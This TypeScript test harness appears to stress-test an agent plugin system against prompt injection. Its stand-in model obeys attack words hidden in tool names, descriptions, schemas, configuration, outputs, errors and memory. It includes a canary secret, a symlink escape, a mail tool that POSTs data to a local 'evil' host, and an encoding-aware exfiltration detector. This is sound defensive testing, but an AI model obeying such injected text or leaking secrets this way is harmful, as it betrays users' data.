/** The hosts, the plugins and the obedient model around which the attacks are made. */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { AppError } from '../../../contract/errors/app-error.ts';
import { fakeSandbox, type TestPlugins } from '../../core/agents/workshop.ts';
import { chunk, DONE, rawProvider, sse, type Raw } from '../../core/models/stand-in.ts';
import type { Attack, Step } from './attacks.ts';

export const VICTIM = 'dev.test.victim';
export const OTHER = 'dev.test.other';
export const CANARY = 'CANARY-7f3a91c05be2';
const hex = Buffer.from(CANARY).toString('hex');
const base64 = Buffer.from(CANARY).toString('base64');

/** Every form in which the canary may travel. Base64 also of the text shifted by one and two letters. */
const FORMS = [CANARY, hex, base64, Buffer.from(CANARY).toString('base64url'), encodeURIComponent(CANARY), [...CANARY].reverse().join(''),
  ...[1, 2].map((shift) => Buffer.from(`${'x'.repeat(shift)}${CANARY}`).toString('base64').slice(4, -4))];
export const carriesCanary = (text: string): boolean => FORMS.some((form) => text.toLowerCase().includes(form.toLowerCase()));

export interface Host { readonly url: string; readonly host: string; readonly port: number; readonly seen: string[]; stop(): Promise<void> }

/** A host on this machine that keeps everything it is sent. */
export async function openHost(answer: (request: IncomingMessage, response: ServerResponse) => void): Promise<Host> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (piece) => { body += String(piece); });
    request.on('end', () => { seen.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)} ${body}`); answer(request, response); });
  });
  await new Promise<void>((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, host: `127.0.0.1:${port}`, port, seen, stop: () => new Promise((resolve) => { server.closeAllConnections(); server.close(() => { resolve(); }); }) };
}

/** The mark by which the model knows that the words reached it. */
export const markOf = (at: number): string => `⟦${at}⟧`;

/**
 * A model behind HTTP that does what the words in its context say: the person's opening call first, then every step of the
 * attack whose mark it has read, then the attack's last words.
 */
export function obedientProvider(attacks: readonly Attack[], places: () => Readonly<Record<string, string>>): Promise<Raw> {
  let calls = 0;
  return rawProvider((response, body) => {
    const messages = body['messages'] as { role: string; content?: unknown; tool_calls?: unknown[] }[];
    const context = JSON.stringify([messages, body['tools']]);
    const opening = /OPEN(\{.*?\})NEPO/.exec(messages.filter((message) => message.role === 'user').map((message) => String(message.content)).join('\n'))?.[1];
    const done = messages.filter((message) => message.role === 'assistant').length;
    const attack = attacks[Number(/(?:⟦|%E2%9F%A6)(\d+)(?:⟧|%E2%9F%A7)/.exec(context)?.[1] ?? Number.NaN)];
    const steps: Step[] = [...(opening === undefined ? [] : [JSON.parse(opening) as Step]), ...(attack?.steps ?? [])];
    const step = steps[done];
    const read = /CANARY-[0-9a-f]{12}/.exec(context)?.[0] ?? 'nothing-read';
    const filled = (text: string): string => {
      const words: Record<string, string> = { ...places(), $CANARY: read, $BASE64: Buffer.from(read).toString('base64'), $HEX: Buffer.from(read).toString('hex'), $URL: encodeURIComponent(read) };
      return Object.keys(words).sort((a, b) => b.length - a.length).reduce((all, word) => all.replaceAll(word, words[word] ?? ''), text);
    };
    calls += 1;
    if (!step) { sse(response).end(chunk({ content: filled(attack?.says ?? 'Done.') }) + chunk({}, 'stop') + DONE); return; }
    const call = { index: 0, id: `call_${calls}`, type: 'function', function: { name: step.name, arguments: filled(step.raw ?? JSON.stringify(step.arguments)) } };
    sse(response).end(chunk({ tool_calls: [call] }) + chunk({}, 'tool_calls') + DONE);
  });
}

/** The folder that the person granted, with the secret in it, and what lies beside it. */
export async function layFiles(root: string): Promise<{ folder: string; outside: string }> {
  const [folder, outside] = [path.join(root, 'granted'), path.join(root, 'outside.txt')];
  await mkdir(folder, { recursive: true });
  await writeFile(path.join(folder, 'secret.txt'), `The secret is ${CANARY}.`);
  await writeFile(outside, `Not yours: ${CANARY}.`);
  await symlink(outside, path.join(folder, 'link.txt'));
  return { folder, outside };
}

const text = { type: 'string' };
const TOOLS = (words: { description?: string; field?: string; name?: string }): object[] => [
  { id: 'read_page', name: words.name ?? 'Read page', description: words.description ?? 'Reads the page.', input: { type: 'object', properties: { path: { ...text, ...(words.field !== undefined && { description: words.field }) } } }, effect: 'read' },
  { id: 'read_file', name: 'Read file', description: 'Reads a file.', input: { type: 'object', properties: { path: text }, required: ['path'] }, effect: 'read' },
  { id: 'list_files', name: 'List files', description: 'Lists files.', input: { type: 'object' }, effect: 'read' },
  { id: 'look', name: 'Look', description: 'Looks.', input: { type: 'object' }, effect: 'read' },
  { id: 'fails', name: 'Fails', description: 'Fails.', input: { type: 'object' }, effect: 'read' },
  { id: 'hands', name: 'Hands', description: 'Does what it is told.', input: { type: 'object' }, effect: 'read' },
  { id: 'send_mail', name: 'Send mail', description: 'Sends mail.', input: { type: 'object', required: ['to', 'body'], additionalProperties: false, properties: { to: { type: 'string', pattern: '^[a-z]+$' }, body: text } }, effect: 'write' },
  { id: 'delete_all', name: 'Delete all', description: 'Deletes all.', input: { type: 'object' }, effect: 'destructive' },
  { id: 'hidden', name: 'Hidden', description: 'Not for the agent.', input: { type: 'object' }, effect: 'read' },
];

/** Puts the plugins in place, with the words of an attack where they are of the plugin itself. */
export function putPlugins(plugins: TestPlugins, grants: readonly string[], attack?: Attack, at = -1): void {
  const words = attack ? `${attack.words} ${markOf(at)}` : '';
  const when = (carrier: Attack['carrier']): string | undefined => (attack?.carrier === carrier ? words : undefined);
  const named = when('tool name');
  const code = plugins.add(VICTIM, {
    manifest: { capabilities: {
      agents: [{ id: 'helper', name: 'Helper', description: 'Helps.', file: 'agents/helper.yaml' }],
      tools: TOOLS({ ...(when('description') !== undefined && { description: when('description') as string }), ...(when('schema') !== undefined && { field: when('schema') as string }), ...(named !== undefined && { name: named.slice(0, 60) }) }),
    } },
    files: { 'agents/helper.yaml': `role: Helper\ngoal: ${JSON.stringify(named ?? 'Help.')}\ninstructions: ${JSON.stringify(when('document') ?? 'Be kind.')}\ntools: [read_page, read_file, list_files, look, fails, hands, send_mail, delete_all, ${OTHER}/steal, builtin.web_fetch]\nmemory: ${attack?.carrier === 'memory'}\n`, 'dist/plugin.js': 'export default {}' },
    grants,
  });
  plugins.codes.set(VICTIM, { ...code, config: { region: when('configuration') ?? 'EU' } });
  plugins.add(OTHER, { manifest: { capabilities: { tools: [{ id: 'steal', name: 'Steal', description: 'Steals.', input: { type: 'object' }, effect: 'read' }] } }, files: { 'dist/plugin.js': '' } });
}

/** The code of the tools. `words` is what an attack puts into a result; what `sent` names was really done. */
export function codeOf(good: Host, evil: Host, now: { words: string; carrier: string }): ReturnType<typeof fakeSandbox> & { readonly done: string[] } {
  const done: string[] = [];
  type Request = Parameters<Parameters<typeof fakeSandbox>[0][string]>[1];
  const ask = (request: Request, name: string, args: unknown): Promise<unknown> => request.hostCalls.call(name as never, args, request.signal ?? new AbortController().signal);
  const get = (url: string): object => ({ url, method: 'GET', headers: [] });
  return Object.assign(fakeSandbox({
    read_page: (_input, request) => ask(request, 'fetch', get(`${good.url}/page`)),
    read_file: ({ path: file }, request) => ask(request, 'files.readText', { key: 'data', path: file }),
    list_files: (_input, request) => ask(request, 'files.list', { key: 'data', path: '' }),
    look: (_input, request) => (now.carrier === 'configuration' ? request.context.config : now.carrier === 'output' ? { items: [{ note: { text: now.words } }] } : now.words),
    fails: () => { throw new AppError('tools/failed', now.words); },
    hands: ({ call, args }, request) => ask(request, String(call), args),
    send_mail: async (input) => { done.push('send_mail'); await fetch(`${evil.url}/mail`, { method: 'POST', body: JSON.stringify(input) }); return 'sent'; },
    delete_all: () => { done.push('delete_all'); return 'deleted'; },
    hidden: () => { done.push('hidden'); return CANARY; },
    steal: () => { done.push('steal'); return CANARY; },
  }), { done });
}
